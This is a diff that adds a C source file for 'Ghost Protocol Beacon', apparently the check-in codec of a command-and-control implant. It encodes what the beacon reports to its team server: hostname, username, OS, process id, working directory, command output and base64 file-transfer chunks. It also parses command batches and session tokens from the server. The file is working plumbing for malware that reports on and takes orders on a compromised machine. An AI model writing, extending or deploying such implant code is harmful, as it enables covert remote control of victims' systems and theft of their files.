@@ -0,0 +1,385 @@
+/*
+ * Ghost Protocol Beacon - Check-in Codec Implementation
+ * Frames check-ins and command batches the same way in the beacon and the team server
+ */
+
+#include "checkin_codec.h"
+#include <limits.h>
+
+// Decoding tables for the listener; names are the JSON check-in keys
+const codec_field_t codec_system_info_fields[] = {
+    { TLV_HOSTNAME, "hostname", CODEC_STRING },
+    { TLV_USERNAME, "username", CODEC_STRING },
+    { TLV_OS_NAME, "os_name", CODEC_STRING },
+    { TLV_OS_VERSION, "os_version", CODEC_STRING },
+    { TLV_ARCHITECTURE, "architecture", CODEC_STRING },
+    { TLV_PID, "pid", CODEC_UINT },
+    { TLV_CWD, "cwd", CODEC_STRING },
+    { 0, NULL, CODEC_STRING }
+};
+
+const codec_field_t codec_result_fields[] = {
+    { TLV_COMMAND_ID, "command_id", CODEC_STRING },
+    { TLV_SUCCESS, "success", CODEC_BOOL },
+    { TLV_OUTPUT, "output", CODEC_STRING },
+    { TLV_RESULT_TIME, "timestamp", CODEC_STRING },
+    { TLV_SEQUENCE, "sequence", CODEC_UINT },
+    { TLV_FINAL, "final", CODEC_BOOL },
+    { TLV_RESULT_SEQ, "result_seq", CODEC_UINT },
+    { TLV_FILE_DATA, "data", CODEC_BYTES },   // base64 text in the JSON check-in
+    { TLV_OFFSET, "offset", CODEC_UINT },
+    { 0, NULL, CODEC_STRING }
+};
+
+const codec_field_t codec_backpressure_fields[] = {
+    { TLV_QUEUED_RESULTS, "queued_results", CODEC_UINT },
+    { TLV_QUEUED_BYTES, "queued_bytes", CODEC_UINT },
+    { TLV_BUDGET, "budget", CODEC_UINT },
+    { TLV_ACCEPT, "accept", CODEC_UINT },
+    { TLV_LONG_POLL, "long_poll", CODEC_UINT },
+    { 0, NULL, CODEC_STRING }
+};
+
+const codec_field_t codec_phase_fields[] = {
+    { TLV_PHASE_COUNT, "count", CODEC_UINT },
+    { TLV_PHASE_FAILURES, "failures", CODEC_UINT },
+    { TLV_PHASE_SUM, "sum_us", CODEC_UINT },
+    { TLV_PHASE_MAX, "max_us", CODEC_UINT },
+    { 0, NULL, CODEC_STRING }
+};
+
+const codec_field_t* codec_find_field(const codec_field_t* fields, unsigned int type) {
+    for (; fields->name; fields++) {
+        if (fields->type == type) {
+            return fields;
+        }
+    }
+    return NULL;
+}
+
+// Phases with no samples and no failures are left out; buckets go as [index, count] pairs
+static void write_telemetry_json(json_writer_t* writer, const telemetry_t* telemetry) {
+    json_writer_key(writer, "telemetry");
+    json_writer_begin_object(writer);
+    for (int i = 0; i < TELEMETRY_PHASES; i++) {
+        const telemetry_histogram_t* histogram = &telemetry->phases[i];
+        if (histogram->count == 0 && histogram->failures == 0) {
+            continue;
+        }
+        json_writer_key(writer, telemetry_phase_name((telemetry_phase_t)i));
+        json_writer_begin_object(writer);
+        json_writer_key(writer, "count");
+        json_writer_int(writer, (long)histogram->count);
+        if (histogram->failures > 0) {
+            json_writer_key(writer, "failures");
+            json_writer_int(writer, (long)histogram->failures);
+        }
+        json_writer_key(writer, "sum_us");
+        json_writer_int64(writer, histogram->sum_us > LLONG_MAX ? LLONG_MAX : (long long)histogram->sum_us);
+        json_writer_key(writer, "max_us");
+        json_writer_int(writer, (long)histogram->max_us);
+        json_writer_key(writer, "buckets");
+        json_writer_begin_array(writer);
+        for (int b = 0; b < TELEMETRY_BUCKETS; b++) {
+            if (histogram->buckets[b] > 0) {
+                json_writer_begin_array(writer);
+                json_writer_int(writer, b);
+                json_writer_int(writer, (long)histogram->buckets[b]);
+                json_writer_end_array(writer);
+            }
+        }
+        json_writer_end_array(writer);
+        json_writer_end_object(writer);
+    }
+    json_writer_end_object(writer);
+}
+
+static void write_telemetry_tlv(tlv_writer_t* writer, const telemetry_t* telemetry) {
+    tlv_begin(writer, TLV_TELEMETRY);
+    for (int i = 0; i < TELEMETRY_PHASES; i++) {
+        const telemetry_histogram_t* histogram = &telemetry->phases[i];
+        if (histogram->count == 0 && histogram->failures == 0) {
+            continue;
+        }
+        
+        char packed[TELEMETRY_BUCKETS * 5];
+        size_t packed_len = 0;
+        for (int b = 0; b < TELEMETRY_BUCKETS; b++) {
+            uint32_t count = histogram->buckets[b] > UINT32_MAX ? UINT32_MAX : (uint32_t)histogram->buckets[b];
+            if (count > 0) {
+                packed[packed_len++] = (char)b;
+                packed[packed_len++] = (char)(count >> 24);
+                packed[packed_len++] = (char)(count >> 16);
+                packed[packed_len++] = (char)(count >> 8);
+                packed[packed_len++] = (char)count;
+            }
+        }
+        
+        tlv_begin(writer, TLV_PHASE);
+        tlv_put_string(writer, TLV_PHASE_NAME, telemetry_phase_name((telemetry_phase_t)i));
+        tlv_put_u32(writer, TLV_PHASE_COUNT, (uint32_t)histogram->count);
+        if (histogram->failures > 0) {
+            tlv_put_u32(writer, TLV_PHASE_FAILURES, (uint32_t)histogram->failures);
+        }
+        tlv_put_u64(writer, TLV_PHASE_SUM, histogram->sum_us);
+        tlv_put_u64(writer, TLV_PHASE_MAX, histogram->max_us);
+        tlv_put(writer, TLV_PHASE_BUCKETS, packed, packed_len);
+        tlv_end(writer);
+    }
+    tlv_end(writer);
+}
+
+// Serializes the check-in body in one pass: system info on the initial check-in and
+// whatever changed since, results whenever there are any. Once the listener has issued
+// a session token the header identifies the beacon, so the body leaves out its id
+void checkin_write_json(json_writer_t* writer, const beacon_config_t* config,
+                        const system_info_t* sysinfo, const result_record_t** results, int result_count,
+                        const backpressure_t* backpressure, const telemetry_t* telemetry) {
+    json_writer_begin_object(writer);
+    if (!config->session_token[0]) {
+        char timestamp[32];
+        get_current_timestamp(timestamp, sizeof(timestamp));
+        json_writer_key(writer, "beacon_id");
+        json_writer_string(writer, config->beacon_id);
+        json_writer_key(writer, "timestamp");
+        json_writer_string(writer, timestamp);
+    }
+    
+    if (sysinfo) {
+        unsigned int unchanged = sysinfo->unchanged;
+        json_writer_key(writer, "system_info");
+        json_writer_begin_object(writer);
+        if (!(unchanged & SYSINFO_HOSTNAME)) {
+            json_writer_key(writer, "hostname");
+            json_writer_string(writer, sysinfo->hostname);
+        }
+        if (!(unchanged & SYSINFO_USERNAME)) {
+            json_writer_key(writer, "username");
+            json_writer_string(writer, sysinfo->username);
+        }
+        if (!(unchanged & SYSINFO_OS_NAME)) {
+            json_writer_key(writer, "os_name");
+            json_writer_string(writer, sysinfo->os_name);
+        }
+        if (!(unchanged & SYSINFO_OS_VERSION)) {
+            json_writer_key(writer, "os_version");
+            json_writer_string(writer, sysinfo->os_version);
+        }
+        if (!(unchanged & SYSINFO_ARCHITECTURE)) {
+            json_writer_key(writer, "architecture");
+            json_writer_string(writer, sysinfo->architecture);
+        }
+        if (!(unchanged & SYSINFO_PID)) {
+            json_writer_key(writer, "pid");
+            json_writer_int(writer, sysinfo->pid);
+        }
+        if (!(unchanged & SYSINFO_CWD)) {
+            json_writer_key(writer, "cwd");
+            json_writer_string(writer, sysinfo->cwd);
+        }
+        json_writer_end_object(writer);
+    }
+    
+    if (results && result_count > 0) {
+        json_writer_key(writer, "command_results");
+        json_writer_begin_array(writer);
+        for (int i = 0; i < result_count; i++) {
+            json_writer_begin_object(writer);
+            const result_record_t* result = results[i];
+            json_writer_key(writer, "command_id");
+            json_writer_string_len(writer, RESULT_ID(result), result->id_length);
+            json_writer_key(writer, "success");
+            json_writer_bool(writer, result->success);
+            if (result->transfer) {
+                // File data is arbitrary bytes, which a JSON string cannot carry as-is
+                json_writer_key(writer, "data");
+                json_writer_base64(writer, RESULT_OUTPUT(result), result->output_length);
+                json_writer_key(writer, "offset");
+                json_writer_int64(writer, result->offset);
+                json_writer_key(writer, "final");
+                json_writer_bool(writer, result->final);
+            } else {
+                json_writer_key(writer, "output");
+                json_writer_string_len(writer, RESULT_OUTPUT(result), result->output_length);
+            }
+            json_writer_key(writer, "timestamp");
+            json_writer_string(writer, result->timestamp);
+            json_writer_key(writer, "result_seq");
+            json_writer_int(writer, result->upload_seq);
+            if (result->chunked) {
+                json_writer_key(writer, "sequence");
+                json_writer_int(writer, result->sequence);
+                json_writer_key(writer, "final");
+                json_writer_bool(writer, result->final);
+            }
+            json_writer_end_object(writer);
+        }
+        json_writer_end_array(writer);
+    }
+    
+    if (backpressure) {
+        json_writer_key(writer, "backpressure");
+        json_writer_begin_object(writer);
+        json_writer_key(writer, "queued_results");
+        json_writer_int(writer, backpressure->queued_results);
+        json_writer_key(writer, "queued_bytes");
+        json_writer_int(writer, (long)backpressure->queued_bytes);
+        json_writer_key(writer, "budget");
+        json_writer_int(writer, (long)backpressure->budget);
+        json_writer_key(writer, "accept");
+        json_writer_int(writer, backpressure->accept);
+        if (backpressure->long_poll > 0) {
+            json_writer_key(writer, "long_poll");
+            json_writer_int(writer, backpressure->long_poll);
+        }
+        json_writer_end_object(writer);
+    }
+    
+    if (telemetry) {
+        write_telemetry_json(writer, telemetry);
+    }
+    
+    json_writer_end_object(writer);
+}
+
+// Binary counterpart of checkin_write_json; same fields, no escaping
+void checkin_write_tlv(tlv_writer_t* writer, const beacon_config_t* config,
+                       const system_info_t* sysinfo, const result_record_t** results, int result_count,
+                       const backpressure_t* backpressure, const telemetry_t* telemetry) {
+    if (!config->session_token[0]) {
+        char timestamp[32];
+        get_current_timestamp(timestamp, sizeof(timestamp));
+        tlv_put_string(writer, TLV_BEACON_ID, config->beacon_id);
+        tlv_put_string(writer, TLV_TIMESTAMP, timestamp);
+    }
+    
+    if (sysinfo) {
+        unsigned int unchanged = sysinfo->unchanged;
+        tlv_begin(writer, TLV_SYSTEM_INFO);
+        if (!(unchanged & SYSINFO_HOSTNAME)) {
+            tlv_put_string(writer, TLV_HOSTNAME, sysinfo->hostname);
+        }
+        if (!(unchanged & SYSINFO_USERNAME)) {
+            tlv_put_string(writer, TLV_USERNAME, sysinfo->username);
+        }
+        if (!(unchanged & SYSINFO_OS_NAME)) {
+            tlv_put_string(writer, TLV_OS_NAME, sysinfo->os_name);
+        }
+        if (!(unchanged & SYSINFO_OS_VERSION)) {
+            tlv_put_string(writer, TLV_OS_VERSION, sysinfo->os_version);
+        }
+        if (!(unchanged & SYSINFO_ARCHITECTURE)) {
+            tlv_put_string(writer, TLV_ARCHITECTURE, sysinfo->architecture);
+        }
+        if (!(unchanged & SYSINFO_PID)) {
+            tlv_put_u32(writer, TLV_PID, (uint32_t)sysinfo->pid);
+        }
+        if (!(unchanged & SYSINFO_CWD)) {
+            tlv_put_string(writer, TLV_CWD, sysinfo->cwd);
+        }
+        tlv_end(writer);
+    }
+    
+    for (int i = 0; results && i < result_count; i++) {
+        const result_record_t* result = results[i];
+        tlv_begin(writer, TLV_RESULT);
+        tlv_put(writer, TLV_COMMAND_ID, RESULT_ID(result), result->id_length);
+        tlv_put_u8(writer, TLV_SUCCESS, result->success != 0);
+        if (result->transfer) {
+            tlv_put(writer, TLV_FILE_DATA, RESULT_OUTPUT(result), result->output_length);
+            tlv_put_u64(writer, TLV_OFFSET, (uint64_t)result->offset);
+            tlv_put_u8(writer, TLV_FINAL, result->final != 0);
+        } else {
+            tlv_put(writer, TLV_OUTPUT, RESULT_OUTPUT(result), result->output_length);
+        }
+        tlv_put_string(writer, TLV_RESULT_TIME, result->timestamp);
+        tlv_put_u64(writer, TLV_RESULT_SEQ, (uint64_t)result->upload_seq);
+        if (result->chunked) {
+            tlv_put_u32(writer, TLV_SEQUENCE, (uint32_t)result->sequence);
+            tlv_put_u8(writer, TLV_FINAL, result->final != 0);
+        }
+        tlv_end(writer);
+    }
+    
+    if (backpressure) {
+        tlv_begin(writer, TLV_BACKPRESSURE);
+        tlv_put_u32(writer, TLV_QUEUED_RESULTS, (uint32_t)backpressure->queued_results);
+        tlv_put_u64(writer, TLV_QUEUED_BYTES, backpressure->queued_bytes);
+        tlv_put_u64(writer, TLV_BUDGET, backpressure->budget);
+        tlv_put_u32(writer, TLV_ACCEPT, backpressure->accept > 0 ? (uint32_t)backpressure->accept : 0);
+        if (backpressure->long_poll > 0) {
+            tlv_put_u32(writer, TLV_LONG_POLL, (uint32_t)backpressure->long_poll);
+        }
+        tlv_end(writer);
+    }
+    
+    if (telemetry) {
+        write_telemetry_tlv(writer, telemetry);
+    }
+}
+
+// Keeps a token only if it fits and is safe to send back as a header value
+static void keep_session(char* session, const char* token, size_t length) {
+    if (length == 0 || length >= SESSION_TOKEN_MAX) {
+        return;
+    }
+    for (size_t i = 0; i < length; i++) {
+        if (token[i] <= ' ' || token[i] > '~') {
+            return;
+        }
+    }
+    memcpy(session, token, length);
+    session[length] = '\0';
+}
+
+static void decode_session(const char* body, size_t body_len, char* session) {
+    if (tlv_is_tlv(body, body_len)) {
+        tlv_reader_t reader;
+        tlv_field_t field;
+        tlv_reader_init(&reader, body + TLV_MAGIC_SIZE, body_len - TLV_MAGIC_SIZE);
+        while (tlv_next(&reader, &field) == 1) {
+            if (field.type == TLV_SESSION) {
+                keep_session(session, field.value, field.length);
+                return;
+            }
+        }
+    } else {
+        // One byte over the limit, so an overlong token shows up as such rather than truncated
+        char token[SESSION_TOKEN_MAX + 1];
+        if (json_get_string(body, body_len, "session", token, sizeof(token)) == 0) {
+            keep_session(session, token, strlen(token));
+        }
+    }
+}
+
+// Parses a decoded reply body in either framing; the magic tells them apart. When
+// session is empty it receives the token the reply issues, if any
+int checkin_parse_reply(const char* body, size_t length, arena_t* arena,
+                        command_record_t** commands, int max_commands, long* ack, char* session) {
+    int count;
+    if (tlv_is_tlv(body, length)) {
+        count = tlv_parse_commands(body, length, arena, commands, max_commands, ack);
+    } else {
+        count = json_parse_commands(body, length, arena, commands, max_commands, ack);
+    }
+    
+    // An issued token is never resent, so only a beacon without one looks for it
+    if (session && !session[0]) {
+        decode_session(body, length, session);
+    }
+    return count;
+}
+
+// One command of a reply batch; opcode 0 leaves the beacon to go by the name
+void checkin_write_command(tlv_writer_t* writer, const char* id, size_t id_length,
+                           const char* name, size_t name_length, const char* args, size_t args_length,
+                           unsigned int opcode) {
+    tlv_begin(writer, TLV_COMMAND);
+    tlv_put(writer, TLV_COMMAND_ID, id, id_length);
+    tlv_put(writer, TLV_COMMAND_NAME, name, name_length);
+    tlv_put(writer, TLV_COMMAND_ARGS, args, args_length);
+    if (opcode > 0) {
+        tlv_put_u8(writer, TLV_COMMAND_OPCODE, opcode);
+    }
+    tlv_end(writer);
+}